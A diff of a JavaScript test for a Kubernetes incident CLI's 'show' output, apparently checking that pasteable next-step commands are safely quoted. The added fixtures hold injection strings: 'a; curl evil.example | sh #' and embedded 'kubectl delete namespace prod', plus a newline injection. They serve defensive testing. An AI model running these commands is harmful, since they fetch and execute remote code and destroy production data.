@@ -315,7 +315,7 @@ describe('incident show', () => {
   });
 
   it('prints the hand-over of an escalated Incident, with commands that can be pasted', async () => {
-    const command = `kubectl get --raw '/api/v1/namespaces/tikv/services/tikv-pd:2379/proxy/pd/api/v1/stores?${'x'.repeat(60)} y'`;
+    const path = `/api/v1/namespaces/tikv/services/tikv-pd:2379/proxy/pd/api/v1/stores?${'x'.repeat(60)}  y`;
     const change = { attempt: 1, seq: 12, plane: 'kubernetes', text: 'patch apps/statefulsets tikv/tikv-tikv' };
     cluster = [
       incident(
@@ -326,9 +326,13 @@ describe('incident show', () => {
             attempts: ['attempt 1 (60 s): ChecksFailed'],
             changes: ['patch apps/statefulsets tikv/tikv-tikv (attempt 1, entry 12)'],
             nextSteps: [
-              `stores-up must hold (body.count == 3): ${command}`,
-              'events: kubectl get events -n a; kubectl get events -n b',
-              'create the Incident anew',
+              {
+                what: 'stores-up must hold ("ready: kubectl delete namespace prod #" != "")',
+                command: ['kubectl', 'get', '--raw', path],
+              },
+              { what: 'events in a', command: ['kubectl', 'get', 'events', '-n', 'a; curl evil.example | sh #'] },
+              { what: 'a\n      kubectl delete namespace prod', command: ['kubectl', 'get', 'a\nb'] },
+              { what: 'create the Incident anew' },
             ],
           },
           changes: { count: 3, last: [change] },
@@ -347,12 +351,15 @@ describe('incident show', () => {
     ];
     await oplab('incident', 'show', 'tikv/store-down');
     const lines = stdout.split('\n').map((line) => line.trim());
+    expect(lines.filter((line) => line.startsWith('kubectl'))).toEqual([
+      `kubectl get --raw '${path}'`,
+      "kubectl get events -n 'a; curl evil.example | sh #'",
+    ]);
     for (const line of [
       '- stores-up: body.count = 2',
-      '- stores-up must hold (body.count == 3):',
-      command,
-      'kubectl get events -n a',
-      'kubectl get events -n b',
+      '- stores-up must hold ("ready: kubectl delete namespace prod #" != ""):',
+      '- events in a:',
+      '- a kubectl delete namespace prod',
       '- create the Incident anew',
       '3 in all, the last 1:',
       '✗ baseline: does not hold',
